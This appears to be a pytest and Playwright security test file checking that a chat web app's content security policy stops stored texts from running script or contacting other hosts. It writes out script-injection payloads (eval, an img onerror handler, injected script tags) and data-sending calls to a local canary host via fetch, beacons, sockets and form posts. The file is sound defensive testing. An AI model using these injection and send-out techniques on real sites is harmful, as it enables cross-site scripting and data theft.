"""Nothing that stands in an answer, a title or a comment gets out of the browser or runs in it.

The texts are put into the database as they are, as if every guard of the server had failed: what is tested here is the
last line, the page's own policy.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, sync_playwright

from tests.e2e.conftest import start_chromium
from tests.security.exits import RUNNING, Canary, canary_server, fetching, read_through, store
from tests.web.conftest import Site
from tests.web.house_fakes import PASSWORD

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]


@pytest.fixture(scope="module")
def canary() -> Iterator[str]:
    with canary_server() as host:
        yield host


@pytest.fixture(scope="module")
def page(canary: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Page, Site, str]]:
    folder: Path = tmp_path_factory.mktemp("exits")
    site = Site(folder)
    thread = asyncio.run(store(site, fetching(canary) + RUNNING, RUNNING))
    with sync_playwright() as playwright:
        browser = start_chromium(playwright)
        context = browser.new_context()
        made = context.new_page()
        context.request.post(f"{site.base}/chat/login", form={"username": "root@demo.example", "password": PASSWORD})
        yield made, site, thread
        browser.close()
    site.end()


def test_no_answer_fetches_from_elsewhere_or_runs(page: tuple[Page, Site, str], canary: str) -> None:
    made, site, thread = page
    forms = fetching(canary)
    assert len(forms) >= 60
    Canary.hits.clear()
    read_through(made, site, thread, len(forms + RUNNING))
    assert Canary.hits == []
    assert made.evaluate("window.hit") is None
    assert made.url.startswith(site.base)


def test_no_title_path_reason_question_or_comment_runs_in_the_admin_pages(page: tuple[Page, Site, str]) -> None:
    made, site, _ = page
    Canary.hits.clear()
    for path in ("knowledge", "knowledge/documents?q=window", "ratings", "people", "cost"):
        made.goto(f"{site.base}/admin/{path}")
        made.wait_for_timeout(300)
        assert made.evaluate("window.hit") is None, path
    made.goto(f"{site.base}/admin/ratings")
    for number in range(0, len(RUNNING), 4):
        made.goto(f"{site.base}/admin/ratings")
        made.locator("main .row a").nth(number).click()
        made.wait_for_timeout(150)
        assert made.evaluate("window.hit") is None
    assert Canary.hits == []


def test_text_cannot_become_code_even_if_a_script_of_ours_were_fooled(page: tuple[Page, Site, str]) -> None:
    made, site, _ = page
    made.goto(f"{site.base}/chat")
    made.wait_for_selector("#chat-input")
    # Later, because what the driver itself evaluates is exempt from the policy.
    outcome = made.evaluate(
        """() => new Promise((done) => setTimeout(() => {
            const tried = [];
            for (const go of [() => eval("window.hit=1"), () => new Function("window.hit=1")()]) {
                try { go(); tried.push("ran"); } catch (e) { tried.push("refused"); }
            }
            setTimeout("window.hit=1", 0);
            const script = document.createElement("script");
            script.textContent = "window.hit=1";
            const box = document.createElement("div");
            box.innerHTML = "<img src=x onerror='window.hit=1'>";
            document.body.append(script, box);
            setTimeout(() => done(tried), 200);
        }, 10))"""
    )
    made.wait_for_timeout(500)
    assert outcome == ["refused", "refused"]
    assert made.evaluate("window.hit") is None


def test_the_page_cannot_send_to_another_host(page: tuple[Page, Site, str], canary: str) -> None:
    made, site, _ = page
    Canary.hits.clear()
    made.goto(f"{site.base}/chat")
    made.wait_for_selector("#chat-input")
    made.evaluate(
        """async (host) => {
            const u = `http://${host}/out`;
            await fetch(u, {mode: "no-cors"}).catch(() => 0);
            navigator.sendBeacon(u, "x");
            new Image().src = u;
            try { new WebSocket(`ws://${host}/out`); } catch (e) {}
            try { new EventSource(u); } catch (e) {}
            try { new Worker(u); } catch (e) {}
            const f = document.createElement("form"); f.action = u; f.method = "post"; f.target = "_blank";
            document.body.append(f); f.submit();
        }""",
        canary,
    )
    made.wait_for_timeout(1_000)
    assert Canary.hits == []
